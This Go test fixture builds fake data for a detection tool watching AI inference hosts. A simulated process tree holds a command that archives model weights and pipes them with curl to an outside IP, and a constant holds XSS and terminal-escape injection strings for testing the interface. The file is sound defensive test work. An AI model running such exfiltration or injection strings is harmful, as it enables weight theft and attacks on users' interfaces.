package apitest

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"time"

	"picket/api"
	"picket/event"
)

// Hostile is text as an attacker may put it into names and arguments.
const Hostile = "<img src=x onerror=alert(1)>\n\x1b[31mred\x1b[0m \"'` ${x} \u202Egnp.exe\x00 \xff\xfe ]]>"

var techniques = []event.Technique{
	{Framework: "attack", ID: "T1059.004", Name: "Unix Shell", Tactic: "execution"},
	{Framework: "attack", ID: "T1005", Name: "Data from Local System", Tactic: "collection"},
	{Framework: "attack", ID: "T1560.001", Name: "Archive via Utility", Tactic: "collection"},
	{Framework: "attack", ID: "T1048.003", Name: "Exfiltration Over Unencrypted Non-C2 Protocol", Tactic: "exfiltration"},
	{Framework: "atlas", ID: "AML.T0025", Name: "Exfiltration via Cyber Means", Tactic: "exfiltration"},
}

func rules() []api.LoadedRule {
	rule := func(n int, name, title, threat string, level event.Severity, t ...event.Technique) api.LoadedRule {
		return api.LoadedRule{
			ID: fmt.Sprintf("6f1c2d3e-0000-4000-8000-%012d", n), Name: name, Title: title,
			Threat: threat, Level: level, Status: "stable", Techniques: t,
		}
	}
	return []api.LoadedRule{
		rule(1, "shell_from_server", "Shell started by an inference server", "steal-weights", event.Medium, techniques[0]),
		rule(2, "weights_read_by_stranger", "Model weights read by a program that is not the server", "steal-weights", event.High, techniques[1]),
		rule(3, "weights_archived", "Model weights packed into an archive", "steal-weights", event.Medium, techniques[2]),
		rule(4, "weights_stolen", "Model weights read, then bytes sent out", "steal-weights", event.Critical, techniques[3], techniques[4]),
		rule(5, "miner_from_notebook", "Coin miner started from a notebook", "mine-on-the-node", event.High),
	}
}

func (f *Fake) fill(now time.Time) {
	start := now.Add(-3 * time.Minute)
	f.story(start, "gpu-01", "llama-server", "/models/llama-3-8b")
	f.story(start.Add(-2*time.Hour), "gpu-02", Hostile, "/models/"+strings.Repeat("very-long-name-", 40)+Hostile)
	f.incidents[1].Title = Hostile
	f.incidents[1].Status = event.IncidentAcknowledged
	closed := f.incidents[0]
	closed.ID, closed.Status, closed.Verdict = "i-closed", event.IncidentClosed, event.FalsePositive
	closed.Title, closed.Severity, closed.Risk = "Backup job read the weights of llama-3-8b", event.Low, 12
	closed.LastSeen = now.Add(-26 * time.Hour)
	f.incidents = append(f.incidents, closed)

	slices.SortFunc(f.events, func(a, b json.RawMessage) int { return recordTime(a).Compare(recordTime(b)) })

	seen, silent := now.Add(-2*time.Second), now.Add(-11*time.Minute)
	f.agents = []api.Agent{
		{Host: "gpu-01", Status: api.AgentOK, LastSeen: &seen, Heartbeat: heartbeat("gpu-01", seen), Counters: map[string]uint64{"received": 184_203, "dropped": 0}},
		{Host: "gpu-02", Status: api.AgentSilent, LastSeen: &silent, Heartbeat: heartbeat("gpu-02", silent), Counters: map[string]uint64{"received": 9_120, "dropped": 37}},
		{Host: "gpu-03", Status: api.AgentNever},
	}
	f.running = running(now)
	lag := 0.2
	f.report = api.Report{Status: api.StatusDegraded, Components: []api.Component{
		{Name: "agent", Status: api.StatusOK, Detail: "184203 events, none dropped"},
		{Name: "bus", Status: api.StatusOK, Lag: &lag},
		{Name: "events", Status: api.StatusDegraded, Detail: "restarted a minute ago", Restarts: 1},
		{Name: "state", Status: api.StatusOK},
		{Name: "sink", Status: api.StatusOK, Detail: "file /var/log/picket/ocsf.jsonl"},
	}}
}

func heartbeat(host string, at time.Time) *event.Heartbeat {
	return &event.Heartbeat{
		Host: host, Time: at, Version: "dev", Kernel: "6.1.0-18-amd64", Boot: "b0", Started: at.Add(-5 * time.Hour), Rules: len(rules()),
		Capabilities: []event.Capability{
			{Name: "exec", OK: true, Detail: "raw tracepoint"},
			{Name: "file-read", OK: true, Detail: "dentry paths from descriptors"},
			{Name: "lsm", OK: false, Detail: "bpf is not in lsm=: blocking falls back to cgroup hooks"},
		},
		Workloads: []event.Workload{{ID: "w-1", Kind: event.Inference, Engine: "llama.cpp", Name: "llama-3-8b", Model: "/models/llama-3-8b"}},
		Models:    []event.Model{{Path: "/models/llama-3-8b", Name: "llama-3-8b", Format: "gguf", Workload: "w-1"}},
		GPUs: []event.GPUState{{
			GPU: event.GPU{
				UUID: "GPU-5c1f", Name: "NVIDIA H100 80GB HBM3", Driver: "nvidia 570.86.15", PCI: "0000:3b:00.0", Source: "nvml", Util: event.Measured(64),
				MemoryUsed: event.Measured(41 << 30), MemoryTotal: event.Measured(80 << 30), Power: event.Measured(412_000), Temperature: event.Measured(58),
			},
			Users: []event.GPUUser{{GPUUse: event.GPUUse{PID: 4000, Memory: event.Measured(40 << 30), Util: event.Measured(64), Type: "compute"}, Process: "llama-server", Workload: "llama-3-8b"}},
		}},
		Metrics: "picket_sensor_received_total 184203\n",
	}
}

// story adds an incident of stolen weights with its findings and events.
func (f *Fake) story(start time.Time, host, server, model string) {
	proc := func(n int, parent, name, cmdline string) event.ProcessNode {
		return event.ProcessNode{
			UID: fmt.Sprintf("%s-p%d", host, n), ParentUID: parent, PID: uint32(4000 + n), Start: start.Add(time.Duration(n) * time.Second),
			Name: name, Exe: "/usr/bin/" + name, Cmdline: cmdline, User: "root", Container: "c0ffee" + strings.Repeat("0", 58),
		}
	}
	tree := []event.ProcessNode{
		proc(0, "", server, server+" -m "+model+"/model.gguf --port 8080"),
		proc(1, host+"-p0", "sh", "sh -c id; tar c "+model+" | curl -T - http://203.0.113.7/up"),
		proc(2, host+"-p1", "tar", "tar c "+model),
		proc(3, host+"-p1", "curl", "curl -T - http://203.0.113.7/up "+strings.Repeat("A", 2000)),
	}
	entities := []event.Entity{
		{Kind: event.EntityHost, ID: host, Name: host},
		{Kind: event.EntityContainer, ID: tree[0].Container, Name: "llama"},
		{Kind: event.EntityModel, ID: host + ":" + model, Name: model},
		{Kind: event.EntityAddress, ID: "203.0.113.7", Name: "203.0.113.7"},
	}
	inc := event.Incident{
		ID: "i-" + host, Title: "Model weights of " + model + " were stolen from " + host, Status: event.IncidentOpen,
		Severity: event.Critical, Risk: 94, FirstSeen: start, LastSeen: start.Add(4 * time.Second), Hosts: []string{host},
		Summary:    "sh, started by " + server + ", read " + model + ", packed it with tar and sent 1.2 MB to 203.0.113.7.",
		Techniques: techniques, Entities: entities, Processes: tree, Version: 4,
		Log: []event.Change{{Time: start, Who: "picket", What: "opened"}},
	}
	for n, r := range rules()[:4] {
		at := start.Add(time.Duration(n+1) * time.Second)
		actor := tree[min(n+1, 3)]
		text := fmt.Sprintf("%s[%d]: %s (%s)", actor.Name, actor.PID, r.Title, model)
		rec, _ := json.Marshal(map[string]string{
			"_time": at.Format(time.RFC3339Nano), "_msg": text, "event.id": fmt.Sprintf("e-%s-%d", host, n), "class": "process",
			"host": host, "process.cmdline": actor.Cmdline, "process.name": actor.Name,
		})
		fd := event.Finding{
			ID: fmt.Sprintf("f-%s-%d", host, n), Time: at, Host: host,
			Rule:     event.Rule{ID: r.ID, Name: r.Name, Title: r.Title, Threat: r.Threat},
			Severity: r.Level, Summary: text, Techniques: r.Techniques, Entities: entities,
			Processes: []event.ProcessNode{actor, tree[0]}, Events: []json.RawMessage{rec}, EventIDs: []string{fmt.Sprintf("e-%s-%d", host, n)}, Count: n + 1,
		}
		f.findings = append(f.findings, fd)
		f.events = append(f.events, rec)
		inc.Findings = append(inc.Findings, event.FindingRef{ID: fd.ID, Time: at, Rule: r.Name, Title: r.Title, Severity: r.Level, Host: host, Process: actor.UID, Count: fd.Count})
		inc.Story = append(inc.Story, event.Passage{Time: at, Text: text, Finding: fd.ID, Severity: r.Level, Tactic: r.Techniques[0].Tactic})
	}
	inc.FindingN = len(inc.Findings)
	f.incidents = append(f.incidents, inc)
}
